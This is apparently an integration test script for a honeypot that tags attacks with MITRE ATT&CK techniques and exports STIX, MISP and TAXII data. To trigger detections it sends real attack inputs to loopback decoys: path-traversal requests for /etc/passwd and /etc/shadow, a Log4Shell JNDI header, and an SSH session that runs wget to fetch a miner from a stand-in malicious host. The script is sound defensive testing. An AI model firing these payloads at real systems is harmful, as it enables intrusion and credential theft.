#!/usr/bin/env bash
# ATT&CK exchange interop: real consumers of decnet-attack's exports.
#   * STIX 2.1 bundles validated by the OASIS stix2-validator;
#   * MISP events loaded by PyMISP;
#   * Navigator layers validated against the layer 4.5 schema (python jsonschema);
#   * the TAXII 2.1 router (served with an in-memory source by the
#     taxii_serve example) driven by taxii2-client: discovery, API root,
#     collections, paging objects with limit/next, manifest, versions,
#     resuming with added_after, token auth.
# The exports come from the export_sample example over the labelled corpus.
# Then the product end to end: `decnet validate-rules` exit codes, `decnet
# serve` with `[attack] rules_dir`, real HTTP exploit requests (curl) from
# two sources tagged by the serve path's tag worker, the API's techniques,
# Navigator layer, STIX (stix2-validator) and MISP (PyMISP) downloads, the
# mounted TAXII 2.1 server read by taxii2-client with an API token
# (discovery, collections, paging, added_after resume), and rule reload by
# SIGHUP and the API (a bad set refused, the old one kept), and an OpenSSH
# client (sshpass) fetching a tool through the SSH decky: the TAXII
# indicators then include its URL, domain and the client's HASSH, valid for
# stix2-validator.
# Loopback 127.0.91.1:18791 and 127.0.92.0/24. Self-cleaning. Fails on any
# validation error.
set -euo pipefail
cd "$(dirname "$0")/../.."
NAME=attack.sh

for t in ssh:openssh-client sshpass:sshpass curl:curl; do
    command -v "${t%%:*}" >/dev/null || { apt-get update -qq && apt-get install -y -qq "${t#*:}" >/dev/null; }
done
python3 -c 'import stix2validator, pymisp, taxii2client, jsonschema' 2>/dev/null || {
    echo "$NAME: installing stix2-validator pymisp taxii2-client"
    pip install -q stix2-validator pymisp taxii2-client jsonschema 2>/dev/null \
        || pip install -q --break-system-packages stix2-validator pymisp taxii2-client jsonschema
}

# The examples are built by the same `cargo test --workspace` run that
# built DECNET_BIN; build them here only when run on its own.
EX=""
if [ -n "${DECNET_BIN:-}" ]; then EX="$(dirname "$DECNET_BIN")/examples"; fi
example() {
    local f="$EX/$1"
    if [ -n "$EX" ] && [ -x "$f" ]; then echo "$f"; return; fi
    if [ -n "$EX" ]; then
        f=$(ls -t "$EX/$1"-* 2>/dev/null | grep -v '\.d$' | head -1 || true)
        if [ -n "$f" ] && [ -x "$f" ]; then echo "$f"; return; fi
    fi
    cargo build -q -p decnet-attack --example "$1" >&2
    echo "target/debug/examples/$1"
}
EXPORT=$(example export_sample)
SERVE=$(example taxii_serve)

WORK=$(mktemp -d /tmp/attack-interop.XXXXXX)
PID=""
SERVE_PID=""
cleanup() {
    if [ -n "$PID" ]; then kill "$PID" 2>/dev/null || true; wait "$PID" 2>/dev/null || true; fi
    if [ -n "$SERVE_PID" ]; then kill "$SERVE_PID" 2>/dev/null || true; wait "$SERVE_PID" 2>/dev/null || true; fi
    rm -rf "$WORK"
}
trap cleanup EXIT
fail() { echo "$NAME: FAIL: $*" >&2; exit 1; }

echo "== export_sample"
"$EXPORT" "$WORK/out" >/dev/null
ls "$WORK/out"

echo "== stix2-validator"
python3 - "$WORK/out" <<'PY' || fail "STIX validation"
import glob, sys
from stix2validator import validate_file, print_results, ValidationOptions
ok = True
files = sorted(glob.glob(sys.argv[1] + "/*.stix.json"))
assert files, "no bundles"
for f in files:
    r = validate_file(f, ValidationOptions(version="2.1"))
    print_results(r)
    ok &= r.is_valid
    objects = __import__("json").load(open(f))["objects"]
    patterns = [o["pattern"] for o in objects if o["type"] == "indicator"]
    # Beyond addresses: what was fetched, and the tools' fingerprints.
    assert any(p.startswith("[url:value = ") for p in patterns), f"{f}: no URL indicator"
    assert any(p.startswith("[network-traffic:extensions.'extension-definition--") and ".hassh = " in p
               for p in patterns), f"{f}: no HASSH indicator"
    assert any(o["type"] == "extension-definition" for o in objects), f"{f}: fingerprint extension undefined"
    print(f"{f}: {len(objects)} objects, {len(patterns)} indicators, valid={r.is_valid}")
sys.exit(0 if ok else 1)
PY

echo "== PyMISP"
python3 - "$WORK/out" <<'PY' || fail "MISP load"
import glob, json, sys
from pymisp import MISPEvent
files = sorted(glob.glob(sys.argv[1] + "/*.misp.json"))
assert files, "no MISP events"
for f in files:
    e = MISPEvent()
    e.load_file(f)
    raw = json.load(open(f))["Event"]
    assert e.info == raw["info"], "info lost"
    assert len(e.attributes) == len(raw["Attribute"]) > 0, "attributes lost"
    assert len(e.objects) == len(raw["Object"]), "objects lost"
    assert any(t.name.startswith("misp-galaxy:mitre-") for t in e.tags), "no ATT&CK galaxy tag"
    for o in e.objects:
        rel = {a.object_relation for a in o.attributes}
        assert o.name == "credential" and "username" in rel and rel <= {"username", "password"}, o.to_json()
    json.loads(e.to_json())
    print(f"{f}: {len(e.attributes)} attributes, {len(e.objects)} objects, {len(e.tags)} tags")
PY

echo "== Navigator layers (schema 4.5)"
python3 - "$WORK/out" crates/decnet-attack/tests/data/navigator_layer_v4_5.schema.json <<'PY' || fail "Navigator layer"
import glob, json, sys
from jsonschema import Draft202012Validator
schema = json.load(open(sys.argv[2]))
v = Draft202012Validator(schema)
files = sorted(glob.glob(sys.argv[1] + "/*.layer.json"))
assert any("ics-attack" in f for f in files) and any("enterprise-attack" in f for f in files), files
for f in files:
    layer = json.load(open(f))
    errors = list(v.iter_errors(layer))
    for e in errors:
        print(f"{f}: {e.message} at {list(e.path)}")
    assert not errors
    print(f"{f}: {len(layer['techniques'])} techniques, valid")
PY

echo "== TAXII 2.1 with taxii2-client"
TOKEN=interop-$RANDOM$RANDOM
ADDR=127.0.91.1:18791
"$SERVE" "$ADDR" "$TOKEN" "$WORK"/out/*.stix.json >"$WORK/taxii.log" 2>&1 &
PID=$!
for _ in $(seq 1 100); do (exec 3<>"/dev/tcp/${ADDR%:*}/${ADDR#*:}") 2>/dev/null && break; sleep 0.1; done
python3 - "http://$ADDR/taxii2/" "$TOKEN" "$WORK/out" <<'PY' || fail "TAXII"
import glob, json, sys
import requests
from taxii2client.v21 import Server, as_pages
from taxii2client.common import TokenAuth
url, token, out = sys.argv[1:]

# Wrong credentials are refused.
try:
    Server(url, user="x", password="wrong").title
    raise SystemExit("wrong token accepted")
except requests.exceptions.HTTPError as e:
    assert e.response.status_code == 401, e

server = Server(url, user="reader", password=token)
print("discovery:", server.title, [r.url for r in server.api_roots])
root = server.default
assert "application/taxii+json;version=2.1" in root.versions
collections = {c.alias or c.title: c for c in root.collections}
print("collections:", sorted(collections))
ind = collections["indicators"]
assert ind.can_read and not ind.can_write

want = set()
for f in glob.glob(out + "/*.stix.json"):
    want |= {o["id"] for o in json.load(open(f))["objects"] if o["type"] == "indicator"}

ids, pages = [], 0
for env in as_pages(ind.get_objects, per_request=7):
    pages += 1
    ids += [o["id"] for o in env.get("objects", [])]
assert sorted(ids) == sorted(want), (len(ids), len(want))
assert pages == -(-len(want) // 7), pages
print(f"objects: {len(ids)} indicators in {pages} pages of 7")

manifest = []
for env in as_pages(ind.get_manifest, per_request=50):
    manifest += env.get("objects", [])
assert len(manifest) == len(want)
assert all(m["media_type"] == "application/stix+json;version=2.1" for m in manifest)

# Resume: everything added after the 5th manifest entry.
cut = manifest[4]["date_added"]
rest = ind.get_objects(added_after=cut).get("objects", [])
assert len(rest) == len(want) - 5, (len(rest), len(want))
print(f"added_after {cut}: {len(rest)} objects")

# The same collection through Token auth, one object and its versions.
ind_token = type(ind)(ind.url, auth=TokenAuth(token))
one = ind_token.get_object(ids[0])["objects"][0]
versions = ind_token.object_versions(ids[0])["versions"]
assert one["modified"] in versions, (one, versions)

camp = next(c for k, c in collections.items() if k.startswith("campaign-campaign"))
types = {o["type"] for env in as_pages(camp.get_objects, per_request=100) for o in env.get("objects", [])}
assert {"attack-pattern", "indicator", "sighting", "observed-data", "relationship", "campaign"} <= types, types
patterns = camp.get_objects(type="attack-pattern")["objects"]
assert patterns and all(p["type"] == "attack-pattern" for p in patterns)
print(f"campaign collection: {sorted(types)}; {len(patterns)} attack-patterns by match[type]")
PY
kill "$PID" 2>/dev/null || true; wait "$PID" 2>/dev/null || true; PID=""

# ---- the product: decnet serve -----------------------------------------
[ -n "${DECNET_BIN:-}" ] || cargo build -q -p decnet
BIN=${DECNET_BIN:-target/debug/decnet}

echo "== decnet validate-rules"
cp -r crates/decnet-attack/rules "$WORK/rules"
"$BIN" validate-rules "$WORK/rules" || fail "shipped rules do not validate"
mkdir "$WORK/bad"
printf '[[rule]]\nid = "x.bad"\nname = "bad"\ntechniques = ["T9999"]\nconfidence = 50\nkind = "command"\ncommand = "x"\n' >"$WORK/bad/bad.toml"
set +e
"$BIN" validate-rules "$WORK/bad" 2>"$WORK/bad.err"; rc=$?
set -e
cat "$WORK/bad.err"
[ "$rc" = 2 ] || fail "validate-rules on a bad directory exited $rc, not 2"
grep -Eq "bad/bad.toml:4: .*T9999" "$WORK/bad.err" || fail "no FILE:LINE: message for the unknown technique"

NET=127.0.92
API=127.0.0.1:$(( 18800 + RANDOM % 500 ))
PW=attack-interop-pw
printf '[general]\nnet = %s.0/24\nmode = loopback\n\n[attack]\nrules_dir = rules\n\n[web01]\nip = %s.10\nservices = http, ssh\n' \
    "$NET" "$NET" >"$WORK/fleet.ini"
"$BIN" validate "$WORK/fleet.ini" | grep -q "ATT&CK rules" || fail "validate does not check the rules in use"
DECNET_ADMIN_PASSWORD=$PW DECNET_JWT_SECRET=attack-interop-secret-0123456789abcdef \
    "$BIN" serve --config "$WORK/fleet.ini" --data-dir "$WORK/data" --port-offset 0 --api "$API" \
    >"$WORK/serve.out" 2>&1 &
SERVE_PID=$!
for _ in $(seq 1 150); do
    (exec 3<>"/dev/tcp/${API%:*}/${API#*:}") 2>/dev/null && (exec 3<>"/dev/tcp/$NET.10/80") 2>/dev/null && break
    kill -0 "$SERVE_PID" 2>/dev/null || { cat "$WORK/serve.out"; fail "serve died"; }
    sleep 0.1
done

echo "== exploit requests (curl) from two sources, then the API and TAXII"
curl -s -o /dev/null --path-as-is --interface $NET.201 "http://$NET.10/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd" || true
curl -s -o /dev/null --interface $NET.201 -A '${jndi:ldap://203.0.113.9:1389/a}' "http://$NET.10/" || true

python3 - "http://$API" "$PW" "$NET" "$WORK" "$SERVE_PID" <<'PY' || { tail -n 30 "$WORK/serve.out"; fail "product ATT&CK/TAXII checks"; }
import json, os, signal, subprocess, sys, time
import requests
from taxii2client.v21 import Server, as_pages
from taxii2client.common import TokenAuth
from stix2validator import validate_string, ValidationOptions
from pymisp import MISPEvent

base, pw, net, work, serve_pid = sys.argv[1:]
api = base + "/api/v1"
tok = requests.post(api + "/auth/login", json={"username": "admin", "password": pw}).json()["access_token"]
H = {"Authorization": f"Bearer {tok}"}

def wait(what, f, secs=30):
    end = time.time() + secs
    while time.time() < end:
        v = f()
        if v:
            return v
        time.sleep(0.3)
    raise SystemExit(f"timed out: {what}")

def techniques():
    r = requests.get(api + "/attack/techniques", headers=H).json()
    return {t["technique_id"]: t for t in r["techniques"]}

seen = wait("T1190 tagged", lambda: (lambda t: t if "T1190" in t else None)(techniques()))
print("techniques:", {k: v["count"] for k, v in seen.items()})
assert requests.get(api + "/attack/techniques").status_code == 401

att = requests.get(api + f"/attackers/{net}.201/techniques", headers=H)
assert att.status_code == 200 and any(t["technique_id"] == "T1190" for t in att.json()["techniques"]), att.text

bundle = requests.get(api + "/attack/stix", headers=H)
assert bundle.status_code == 200, bundle.text
r = validate_string(bundle.text, ValidationOptions(version="2.1"))
assert r.is_valid, [str(e) for e in r.errors]
print("fleet STIX bundle valid:", len(bundle.json()["objects"]), "objects")
e = MISPEvent()
e.load(requests.get(api + "/attack/misp", headers=H).json())
assert e.attributes, "MISP event without attributes"
layer = requests.get(api + "/attack/navigator", headers=H).json()
assert any(t["techniqueID"] == "T1190" for t in layer["techniques"]), layer

# TAXII 2.1 with the API token.
url = base + "/taxii2/"
try:
    Server(url, auth=TokenAuth("not-a-token")).title
    raise SystemExit("a bad token was accepted")
except requests.exceptions.HTTPError as err:
    assert err.response.status_code == 401, err
server = Server(url, auth=TokenAuth(tok))
print("discovery:", server.title)
root = server.default
cols = {c.alias: c for c in root.collections}
assert {"fleet", "indicators"} <= set(cols), list(cols)
fleet = cols["fleet"]

def all_objects(col, per):
    out, pages = [], 0
    for env in as_pages(col.get_objects, per_request=per):
        pages += 1
        out += env.get("objects", [])
    return out, pages

def served():
    o = all_objects(fleet, 1000)[0]
    return o if any(x["type"] == "attack-pattern" for x in o) else None

objs = wait("STIX objects served", served, 40)
types = {o["type"] for o in objs}
assert {"identity", "threat-actor", "attack-pattern", "indicator", "sighting"} <= types, types
paged, pages = all_objects(fleet, 3)
assert sorted(o["id"] for o in paged) == sorted(o["id"] for o in objs), "paging lost or repeated objects"
assert pages == -(-len(objs) // 3), (pages, len(objs))
print(f"fleet collection: {len(objs)} objects, {pages} pages of 3")
manifest = [m for env in as_pages(fleet.get_manifest, per_request=100) for m in env.get("objects", [])]
last_added = max(m["date_added"] for m in manifest)
assert fleet.get_objects(added_after=last_added).get("objects", []) == []

# A second attacker later: a client resuming with added_after gets only what is new.
subprocess.run(["curl", "-s", "-o", "/dev/null", "--path-as-is", "--interface", f"{net}.202",
                f"http://{net}.10/download?file=../../../../etc/shadow"], check=False)
new = wait("new objects after added_after",
           lambda: fleet.get_objects(added_after=last_added).get("objects"), 40)
assert any(o["type"] == "indicator" and f"{net}.202" in o.get("pattern", "") for o in new), new
print(f"added_after {last_added}: {len(new)} new objects")
inds, _ = all_objects(cols["indicators"], 100)
assert inds and all(o["type"] == "indicator" for o in inds)

# Reload: a bad rule file is refused (SIGHUP and API), the old set stays; fixed → reloaded.
n = len(requests.get(api + "/attack/rules", headers=H).json()["rules"])
bad = os.path.join(work, "rules", "zz_bad.toml")
with open(bad, "w") as f:
    f.write(open(os.path.join(work, "bad", "bad.toml")).read())
os.kill(int(serve_pid), signal.SIGHUP)
r = requests.post(api + "/attack/rules/reload", headers=H, json={})
assert r.status_code == 422 and any("zz_bad.toml:4:" in x for x in r.json()["errors"]), r.text
assert len(requests.get(api + "/attack/rules", headers=H).json()["rules"]) == n
os.remove(bad)
r = requests.post(api + "/attack/rules/reload", headers=H, json={})
assert r.status_code == 200 and r.json()["rules"] == n, r.text
print(f"reload: bad set refused, {n} rules kept; good set reloaded")

# A tool fetched through the SSH decky by a real OpenSSH client: its URL,
# the URL's domain and the client's HASSH become TAXII indicators.
url_fetched = "http://dl.evil-cdn.example/xmrig.tar.gz"
subprocess.run(["sshpass", "-p", "admin", "ssh", "-tt", "-b", f"{net}.203",
                "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null",
                "-o", "PreferredAuthentications=password", "-o", "PubkeyAuthentication=no",
                "-o", "ConnectTimeout=10", f"root@{net}.10"],
               input=f"cd /tmp\nwget {url_fetched}\nexit\n", text=True,
               stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, timeout=60, check=False)
def fetched():
    inds, _ = all_objects(cols["indicators"], 100)
    pats = [o["pattern"] for o in inds]
    want = [f"[url:value = '{url_fetched}']", "[domain-name:value = 'dl.evil-cdn.example']"]
    hassh = [p for p in pats if p.startswith("[network-traffic:extensions.") and ".hassh = " in p]
    return inds if all(w in pats for w in want) and hassh else None
inds = wait("URL, domain and HASSH indicators served", fetched, 60)
objs, _ = all_objects(fleet, 1000)
bundle = {"type": "bundle", "id": "bundle--3a1f6b52-9a9e-4a3c-8f0e-6d1c2b7e4f10", "objects": objs}
r = validate_string(json.dumps(bundle), ValidationOptions(version="2.1"))
assert r.is_valid, [str(e) for e in r.errors]
print(f"served after an SSH download: {len(inds)} indicators; fleet collection ({len(objs)} objects) valid")
PY
grep -q "ATT&CK rules not reloaded" "$WORK/serve.out" || fail "SIGHUP reload of a bad set not reported"
echo "$NAME: all checks passed"
